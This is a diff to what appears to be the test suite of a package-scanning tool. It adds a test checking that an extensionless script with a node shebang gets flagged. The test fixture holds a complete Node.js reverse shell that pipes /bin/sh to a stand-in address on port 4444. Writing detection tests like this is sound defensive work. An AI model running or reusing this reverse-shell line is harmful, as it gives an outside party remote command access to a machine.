@@ -84,4 +84,11 @@ describe("rule install-scripts", () => {
     });
     assert.equal(report.verdict, "ok", JSON.stringify(report.findings));
   });
+  it("reads an extensionless script with a node shebang as JavaScript", async () => {
+    const report = await scanFiles({
+      "package.json": manifest({ bin: { tool: "bin/tool" } }),
+      "bin/tool": "#!/usr/bin/env node\nthrow 0; const net = require('net'); const sh = require('child_process').spawn('/bin/sh'); const s = net.connect(4444, '203.0.113.3', () => { s.pipe(sh.stdin); sh.stdout.pipe(s); });\n",
+    });
+    assert.equal(report.verdict, "malicious", JSON.stringify(report.findings));
+  });
 });
